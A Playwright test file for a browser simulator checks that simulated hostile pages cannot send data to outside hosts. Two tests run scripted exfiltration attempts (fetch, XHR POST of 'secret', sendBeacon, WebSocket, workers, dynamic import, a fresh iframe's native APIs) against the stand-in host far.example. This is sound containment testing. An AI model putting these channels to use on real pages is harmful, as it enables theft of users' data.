import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { chromium, type Page } from '@playwright/test'
import { everyNth } from '../src/check/testing/extent.ts'
import type { FixedAnswer } from '../src/protocol/setup.ts'
import { DIST } from '../tools/paths.ts'
import { showEverything } from './context.ts'
import { EVIL, FAR, hostilePage, LOADS, LOOKED_UP, WAYS_OUT } from './hostile/pages.ts'
import { test as base, expect } from './test.ts'
import type { Workbench } from './workbench.ts'

/** Where the one name leads that pages only look up; nobody listens there. */
const LOOK_UP_ADDRESS = '127.77.77.77'

/**
 * An ordinary profile, not a private one: only there does Chromium look names up and connect ahead of time, as it does for readers. Its
 * own log tells which names it looked up.
 */
const test = base.extend<{ lookUps: { expected: boolean } }>({
  lookUps: [{ expected: false }, { option: true }],
  context: async ({ launchOptions, contextOptions, baseURL, viewport, lookUps }, use) => {
    const directory = mkdtempSync(join(tmpdir(), 'authscope-profile-'))
    const log = join(directory, 'network.json')
    const args = (launchOptions.args ?? []).map((arg) =>
      arg.replace('--host-resolver-rules=', `--host-resolver-rules=MAP ${LOOKED_UP} ${LOOK_UP_ADDRESS},`),
    )
    const context = await chromium.launchPersistentContext(directory, {
      ...launchOptions,
      ...contextOptions,
      args: [...args.filter((arg) => arg !== '--disable-background-networking'), `--log-net-log=${log}`],
      ignoreDefaultArgs: ['--disable-background-networking'],
      viewport,
      ...(baseURL === undefined ? {} : { baseURL }),
    })
    await context.addInitScript(showEverything)
    const [blank] = context.pages()
    await use(context)
    await blank?.close()
    await context.close()
    // What stands before the events is the browser's own command line.
    const [, events = ''] = readFileSync(log, 'utf8').split('"events":', 2)
    rmSync(directory, { recursive: true, force: true })
    expect.soft(events.includes(LOOK_UP_ADDRESS), `whether ${LOOKED_UP} was looked up`).toBe(lookUps.expected)
  },
})

// What the policy of simulated pages refuses, and what nobody answers, is written to the console.
test.use({
  ownContext: true,
  expectedComplaints:
    /Content Security Policy|Content-Security-Policy|Permissions Policy|status of|ERR_|sandboxed|Unsafe attempt|Speculation|Manifest/i,
})

/** Of pages by their titles, something that their browser asks for. */
const SENT: Readonly<Record<string, string>> = {
  image: 'image.png',
  'style sheet': 'style.css',
  'imported style': 'background.png',
  font: 'font.woff2',
  media: 'poster.png',
  frame: 'frame',
}

/** A world with one hostile page for each of these, at `https://evil.example/0`, `/1`… */
async function openWorld(workbench: Workbench, pages: readonly string[]): Promise<void> {
  const answers: Record<string, FixedAnswer> = {
    [`${FAR}/`]: hostilePage('<h1>Far</h1>'),
    [`${EVIL}/beyond`]: hostilePage('<h1>Beyond</h1>'),
  }
  for (const [index, content] of pages.entries())
    answers[`${EVIL}/${index}`] = hostilePage(`<h1>Evil</h1>${content}`)
  await workbench.open()
  await workbench.reset({ answers })
}

/** Everything that the page loads by itself has been loaded, or has failed. Frames may come and go meanwhile. */
async function waitForLoads(page: Page): Promise<void> {
  await Promise.all(page.frames().map((frame) => frame.waitForLoadState('load').catch(() => undefined)))
}

test.describe('a page without the simulator', () => {
  // The browser may try a second time when all was heard.
  test.use({ lookUps: { expected: true }, expectedCalls: /far\.example|near\.example|without a word/ })

  test('is noticed when it sends requests', async ({ page, canary, startSite }) => {
    const directory = mkdtempSync(join(tmpdir(), 'authscope-plain-'))
    writeFileSync(
      join(directory, 'index.html'),
      `<link rel="preconnect" href="${FAR}"><link rel="dns-prefetch" href="//${LOOKED_UP}"><img src="https://near.example/x">`,
    )
    const site = await startSite({ directory })
    await page.goto(site.url)
    const heard: (readonly string[])[] = []
    await expect
      .poll(() => {
        // A connection is heard before it says whom it is for: its entry changes when it has.
        heard.push(canary.takeCalls())
        const names = heard.flat().filter((call) => call !== 'a connection without a word')
        return [...new Set(names)].sort()
      })
      .toEqual(['TLS for far.example', 'TLS for near.example'])
    rmSync(directory, { recursive: true })
  })
})

test('nothing that a page loads by itself leaves the origin', async ({ workbench, page, canary }) => {
  const titles = Object.keys(LOADS)
  await openWorld(workbench, Object.values(LOADS))
  const sent = async () => (await workbench.recordedOf('request.sent')).map(({ data }) => data.request.url)
  for (const [index, title] of titles.entries()) {
    await test.step(title, async () => {
      await workbench.go(`${EVIL}/${index}`)
      await waitForLoads(page)
      // The simulated internet gets what a browser would have sent, before or after the page has loaded.
      const path = SENT[title]
      if (path !== undefined) await expect.poll(sent, { message: title }).toContain(`${FAR}/${path}`)
      expect.soft(canary.takeCalls(), title).toEqual([])
    })
  }
  const asked = await sent()
  for (const path of ['script.js', 'inline.png', 'handler.png', 'base/relative.png'])
    expect.soft(asked, path).not.toContain(`${FAR}/${path}`)
})

test('no link and no form leaves the window', async ({ workbench, page, context, canary }) => {
  await openWorld(
    workbench,
    Object.values(WAYS_OUT).map(({ content }) => content),
  )
  const home = page.url()
  const windows = context.pages()
  const sent = async () =>
    (await workbench.recordedOf('request.sent')).map(
      ({ data }) => `${data.request.method} ${data.request.url}`,
    )
  for (const [index, [name, { request }]] of everyNth(2, [...Object.entries(WAYS_OUT).entries()])) {
    await test.step(name, async () => {
      await workbench.go(`${EVIL}/${index}`)
      const frame = workbench.frame()
      const target =
        name === 'area of a map' ? frame.getByAltText('picture') : frame.getByText(name, { exact: true })
      const before = (await sent()).length
      await target.click()
      // Wait until the click's own load has begun before the next page replaces this one.
      if (request !== undefined)
        await expect.poll(async () => (await sent()).slice(before), { message: name }).toContain(request)
      await waitForLoads(page)
      expect.soft(page.url(), name).toBe(home)
      expect.soft(context.pages(), name).toEqual(windows)
      expect.soft(canary.takeCalls(), name).toEqual([])
    })
  }
})

test('a link to a new window opens a simulated tab', async ({ workbench, page }) => {
  await openWorld(workbench, [WAYS_OUT['link to a new window']?.content ?? ''])
  await workbench.go(`${EVIL}/0`)
  await workbench.frame().getByRole('link').click()
  await expect(workbench.address).toHaveValue(`${FAR}/`)
  await expect(page.getByRole('list', { name: 'Tabs of laptop' }).getByRole('listitem')).toHaveCount(3)
  await test.step('with Control it loads in the background', async () => {
    await workbench.go(`${EVIL}/0`)
    await workbench
      .frame()
      .getByRole('link')
      .click({ modifiers: ['Control'] })
    const behind = page.locator('iframe[title$=", in the background"]').last()
    await expect(behind.contentFrame().locator('h1')).toHaveText('Far')
    await expect(workbench.address).toHaveValue(`${EVIL}/0`)
  })
})

test('scripts find every way out closed', async ({ workbench, page, context, canary }) => {
  await openWorld(workbench, [''])
  await workbench.go(`${EVIL}/0`)
  const windows = context.pages()
  const frame = page.frames().find((each) => each.url().includes('evil.example'))
  const outcomes = await frame?.evaluate(async (far) => {
    const quiet = async (work: () => unknown): Promise<string> => {
      try {
        const value = await work()
        return value instanceof Response ? `${value.type} ${value.status}` : String(value)
      } catch (error) {
        return error instanceof Error ? error.name : 'thrown'
      }
    }
    const told = (target: EventTarget) =>
      new Promise((resolve) => {
        for (const type of ['open', 'error', 'load']) target.addEventListener(type, () => resolve(type))
      })
    const request = () => {
      const xhr = new XMLHttpRequest()
      xhr.open('POST', `${far}/xhr`)
      const end = told(xhr)
      xhr.send('secret')
      return end
    }
    return {
      fetch: await quiet(() => fetch(`${far}/fetch`)),
      opaque: await quiet(() => fetch(`${far}/opaque`, { mode: 'no-cors', method: 'POST', body: 'secret' })),
      keepalive: await quiet(() =>
        fetch(`${far}/keepalive`, { keepalive: true, mode: 'no-cors', method: 'POST' }),
      ),
      xhr: await quiet(request),
      beacon: await quiet(() => navigator.sendBeacon(`${far}/beacon`, 'secret')),
      socket: await quiet(() => told(new WebSocket('wss://far.example/socket'))),
      events: await quiet(() => told(new EventSource(`${far}/events`))),
      window: await quiet(() => window.open(`${far}/`)),
      worker: await quiet(() => told(new Worker(`${far}/worker.js`))),
      peer: typeof globalThis.RTCPeerConnection,
      transport: typeof globalThis.WebTransport,
      container: typeof navigator.serviceWorker,
      import: await quiet(() => import(`${far}/module.js`)),
      federated: await quiet(() =>
        navigator.credentials.get({
          identity: { providers: [{ configURL: `${far}/fedcm.json`, clientId: 'x' }] },
        } as CredentialRequestOptions),
      ),
      payment: 'PaymentRequest' in globalThis,
      later: 'fetchLater' in globalThis,
      signal: await quiet(() =>
        Reflect.apply(Reflect.get(PublicKeyCredential, 'signalUnknownCredential'), PublicKeyCredential, [
          { rpId: 'far.example', credentialId: 'AAAA' },
        ]),
      ),
    }
  }, FAR)
  expect(outcomes).toMatchObject({
    fetch: 'TypeError',
    xhr: 'error',
    beacon: 'true',
    socket: 'error',
    events: 'error',
    window: 'null',
    worker: 'error',
    peer: 'undefined',
    transport: 'undefined',
    container: 'undefined',
    import: 'TypeError',
    federated: 'NotSupportedError',
    payment: false,
    later: false,
    signal: 'SecurityError',
  })
  expect(context.pages()).toEqual(windows)
  await expect
    .poll(async () => (await workbench.recordedOf('request.sent')).map(({ data }) => data.request.url))
    .toEqual(expect.arrayContaining([`${FAR}/beacon`, `${FAR}/.well-known/webauthn`]))
  expect(canary.takeCalls()).toEqual([])
})

test('a script that uses the interfaces of an empty frame reaches no host, because the frame inherits the policy', async ({
  workbench,
  page,
  canary,
}) => {
  await openWorld(workbench, [''])
  await workbench.go(`${EVIL}/0`)
  const frame = page.frames().find((each) => each.url().includes('evil.example'))
  const outcomes = await frame?.evaluate(async (far) => {
    const element = document.createElement('iframe')
    document.body.append(element)
    const { contentDocument: inner, contentWindow } = element
    if (inner === null || contentWindow === null) throw new Error('The frame has no document.')
    // What the page script took away or mapped is there again, as the browser made it.
    const native = contentWindow as Window & typeof globalThis
    const told = (source: EventTarget): Promise<string> =>
      new Promise((resolve) => {
        for (const type of ['load', 'open', 'error'])
          source.addEventListener(type, () => resolve(type), { once: true })
      })
    const request = new native.XMLHttpRequest()
    const image = new native.Image()
    const sheet = inner.createElement('link')
    const ends = [
      ...['fetch', 'opaque'].map((mode) =>
        native
          .fetch(`${far}/${mode}`, mode === 'opaque' ? { mode: 'no-cors' } : {})
          .catch((error: Error) => error.name),
      ),
      ...[
        request,
        image,
        sheet,
        new native.EventSource(`${far}/events`),
        new native.WebSocket('wss://far.example/socket'),
      ].map(told),
    ]
    request.open('GET', `${far}/xhr`)
    request.send()
    image.src = `${far}/image.png`
    Object.assign(sheet, { rel: 'stylesheet', href: `${far}/sheet.css` })
    inner.head.append(sheet)
    inner.body.innerHTML = `<style>@import "${far}/import.css"; body { background: url("${far}/background.png") }</style><video src="${far}/video.mp4" poster="${far}/poster.png"></video><embed src="${far}/embed">`
    native.navigator.sendBeacon(`${far}/beacon`, 'secret')
    return Promise.all(ends)
  }, FAR)
  expect(outcomes).toEqual(['TypeError', 'TypeError', 'error', 'error', 'error', 'error', 'error'])
  expect(canary.takeCalls()).toEqual([])
})

test('the server of the site sees its own files and nothing else', { tag: '@all' }, async ({
  workbench,
  page,
  startSite,
}) => {
  const site = await startSite()
  await workbench.open(site.url)
  await workbench.signIn()
  // A page that frames itself would load all of this eight times over.
  const loads = Object.entries(LOADS).flatMap(([title, content]) =>
    title === 'nested frames' ? [] : [content],
  )
  await workbench.reset({ answers: { [`${EVIL}/`]: hostilePage(loads.join('')) } })
  await workbench.go(`${EVIL}/`)
  await waitForLoads(page)
  const files = readdirSync(DIST, { recursive: true }).map(
    (file) => `GET /${String(file).replaceAll('\\', '/')}`,
  )
  // Browsers ask for an icon at this place by themselves.
  const own = new Set(['GET /', 'GET /favicon.ico', ...files])
  expect(site.log.filter((line) => !own.has(line))).toEqual([])
})
